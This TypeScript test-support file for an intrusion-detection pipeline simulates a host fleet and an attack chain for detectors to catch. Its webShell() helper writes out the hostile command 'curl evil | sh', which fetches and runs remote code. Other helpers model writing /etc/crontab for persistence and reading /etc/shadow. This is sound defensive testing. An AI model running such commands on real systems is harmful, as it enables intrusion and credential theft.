import type { InRecord, OutRecord } from '@ringfence/bus';
import { createTestHost, O, type TestHost, type TestProcess } from '@ringfence/testkit';
import { decode, type Event, type Incident, LANE, TOPIC, U64_ZERO, u64FromBigInt } from '@ringfence/wire';
import { createEdgePipeline, type DetectorOptions, type DetectorPipeline, type EdgePipeline } from '../src/index.ts';
import { createStats } from '../src/metrics.ts';
import { createFeed, createTestDetector, RULES, TestStore } from './support.ts';

/** One partition of a service: its input, its memory, and a store that survives a restart. */
interface Stage {
  readonly make: () => DetectorPipeline | EdgePipeline;
  readonly queues: Map<string, InRecord[]>;
  readonly store: TestStore;
  readonly latest: OutRecord[];
  work: DetectorPipeline | EdgePipeline;
}

const LATEST = 8;

/** Returns the index of the queue that is handled next, of `count` queues. */
export type Choose = (count: number) => number;
const first: Choose = () => 0;

export interface FleetOptions extends DetectorOptions {
  /** Returns whether the stage is restarted from its store before the next record. */
  readonly restarts?: () => boolean;
  /** Returns whether the latest outputs of a stage are delivered twice. */
  readonly repeats?: () => boolean;
  readonly rules?: string;
}

/** Detectors of many hosts, a partition each, and the second stage. Topics are queues; the caller chooses the next one. */
export class TestFleet {
  readonly outputs: OutRecord[] = [];
  readonly #stages: Stage[] = [];
  readonly #options: FleetOptions;
  readonly #byHost = new Map<string, Stage>();
  readonly #edges: Stage;
  readonly #feeds = new Map<TestHost, ReturnType<typeof createFeed>>();
  readonly #offsets = new Map<string, number>();

  constructor(options: FleetOptions = {}) {
    this.#options = options;
    this.#edges = this.#add(() => createEdgePipeline({ stats: createStats() }));
  }

  feed(host: TestHost, batches: readonly Uint8Array[]): void {
    const feed = this.#feeds.get(host) ?? createFeed(host);
    this.#feeds.set(host, feed);
    for (const { key, value } of feed.of(batches)) this.#route({ topic: TOPIC.events, key, value });
  }

  async run(choose: Choose = first): Promise<void> {
    for (;;) {
      const waiting = this.#stages.flatMap((stage) =>
        [...stage.queues.values()].flatMap((queue) => (queue.length === 0 ? [] : [{ stage, queue }])),
      );
      if (waiting.length === 0) return;
      const next = waiting[choose(waiting.length)];
      const record = next?.queue.shift();
      if (next === undefined || record === undefined) return;
      await this.#work(next.stage, record);
    }
  }

  /** The last version of each incident */
  get incidents(): Incident[] {
    const all = this.outputs.filter(({ topic }) => topic === TOPIC.incidents);
    const last = new Map(all.map(({ key, value }) => [key, decode('Incident', value ?? new Uint8Array())]));
    return [...last.values()];
  }

  get open(): Incident[] {
    return this.incidents.filter(({ state }) => state === 'open');
  }

  detector({ hostId }: Pick<TestHost, 'hostId'>): DetectorPipeline {
    return this.#stageOf(hostId).work as DetectorPipeline;
  }

  async #work(stage: Stage, record: InRecord): Promise<void> {
    if (this.#options.restarts?.() === true) {
      stage.work = stage.make();
      await stage.work.restore(stage.store.entries());
    }
    const effect = await stage.work.handle([record]);
    stage.store.apply(effect);
    this.outputs.push(...effect.outputs);
    stage.latest.push(...effect.outputs);
    stage.latest.splice(0, stage.latest.length - LATEST);
    for (const output of effect.outputs) this.#route(output);
    // After a crash between outputs and state, outputs come again, older ones after newer ones.
    if (this.#options.repeats?.() === true) for (const output of stage.latest) this.#route(output);
  }

  #route({ topic, key, value }: OutRecord): void {
    if (topic !== TOPIC.events && topic !== TOPIC.joins && topic !== TOPIC.edges) return;
    const stage = topic === TOPIC.edges ? this.#edges : this.#stageOf(key);
    const queue = stage.queues.get(topic) ?? [];
    stage.queues.set(topic, queue);
    const offset = this.#offsets.get(`${topic}/${key}`) ?? 0;
    this.#offsets.set(`${topic}/${key}`, offset + 1);
    queue.push({ topic, partition: 0, offset, key, value, timestamp: 0 });
  }

  #stageOf(hostId: string): Stage {
    const known = this.#byHost.get(hostId);
    if (known !== undefined) return known;
    const { rules = RULES, restarts: _, repeats: __, ...options } = this.#options;
    const stage = this.#add(() => createTestDetector(options, rules));
    this.#byHost.set(hostId, stage);
    return stage;
  }

  #add(make: () => DetectorPipeline | EdgePipeline): Stage {
    const stage: Stage = { make, queues: new Map(), store: new TestStore(), latest: [], work: make() };
    this.#stages.push(stage);
    return stage;
  }
}

/** A host with an address, an SSH server and a clock. */
export class Machine {
  readonly host: TestHost;
  readonly address: string;
  readonly sshd: TestProcess;
  #logSequence = 0;

  constructor(number: number, options: { readonly clockOffset?: number; readonly ktime?: number } = {}) {
    const { clockOffset = 0, ktime = 3_600_000_000 } = options;
    const hostId = `host-${number}`;
    const wallOffset = Date.UTC(2026, 0, 1) * 1000 + 3_600_000_000 - ktime + clockOffset;
    this.address = `10.0.0.${number}`;
    this.host = createTestHost({ hostId, bootId: `boot-${number}`, run: BigInt(number), ktime, wallOffset });
    this.host.snapshot(this.host.init, '/usr/lib/systemd/systemd');
    this.sshd = this.host.spawn(this.host.init, '/usr/sbin/sshd');
  }

  /** Returns the shell of an SSH login from that address. */
  login(from: string, port: number): TestProcess {
    const { host, sshd, address } = this;
    host.accept(sshd, { address: from, port }, { address, port: 22 });
    const session = host.spawn(sshd, '/usr/lib/openssh/sshd-session');
    return host.spawn(host.fork(session), '/bin/bash');
  }

  /** The shell runs ssh to the other host. */
  ssh(shell: TestProcess, to: Machine, port: number): void {
    const client = this.host.spawn(shell, '/usr/bin/ssh', ['ssh', to.address]);
    this.host.connect(client, to.address, 22, { localAddress: this.address, localPort: port });
  }

  /** Returns a shell that a web server started, and that ran a file it had fetched. */
  webShell(): TestProcess {
    const { host } = this;
    const nginx = host.spawn(host.init, '/usr/sbin/nginx');
    const shell = host.spawn(nginx, '/bin/sh', ['sh', '-c', 'curl evil | sh']);
    const curl = host.spawn(shell, '/usr/bin/curl');
    host.connect(curl, '203.0.113.9', 443, { localAddress: this.address, localPort: 50_000 });
    host.open(curl, '/tmp/x', O.WRONLY | O.CREAT);
    host.spawn(shell, '/tmp/x');
    return shell;
  }

  persist(shell: TestProcess): void {
    this.host.open(shell, '/etc/crontab', O.WRONLY);
  }

  steal(shell: TestProcess): void {
    this.host.open(shell, '/etc/shadow');
  }

  wait(us: number): void {
    this.host.ktime += us;
  }

  /** Adds sshd's log line about a login that succeeded, as the enricher writes it; `process` wrote the line. */
  logLogin(process: TestProcess | undefined, line: LoginLine): void {
    const text = Buffer.from('Accepted publickey');
    this.host.append({
      lane: LANE.log,
      cpu: 0,
      sequence: ++this.#logSequence,
      ktime: this.host.ktime,
      late: false,
      tgid: process?.tgid ?? 0,
      tid: process?.tgid ?? 0,
      start: process?.startBytes ?? U64_ZERO,
      cgroup: u64FromBigInt(0n),
      execId: process?.execId ?? 0,
      body: {
        'ringfence.Log': {
          origin: 'journald',
          path: 'ssh.service',
          offset: -1,
          program: 'sshd',
          pid: process?.tgid ?? 0,
          message: { bytes: text, length: text.length },
          category: 'authentication',
          action: 'ssh-login',
          outcome: 'success',
          user: '',
          targetUser: 'root',
          sourceAddress: line.from,
          sourcePort: line.port,
          method: 'publickey',
          fingerprint: line.fingerprint ?? '',
          command: '',
          workingDirectory: '',
          tty: '',
        },
      },
    } as unknown as Event);
  }

  /** Adds the agent's record of the host's name and addresses. */
  describe(addresses: string): void {
    this.host.append({
      lane: LANE.context,
      cpu: 1,
      sequence: ++this.#logSequence,
      ktime: this.host.ktime,
      late: false,
      tgid: 0,
      tid: 0,
      start: U64_ZERO,
      cgroup: U64_ZERO,
      execId: 0,
      body: { 'ringfence.HostContext': { hostname: `web-${this.address}`, machineId: '', addresses } },
    } as unknown as Event);
  }
}

interface LoginLine {
  readonly from: string;
  readonly port: number;
  readonly fingerprint?: string;
}
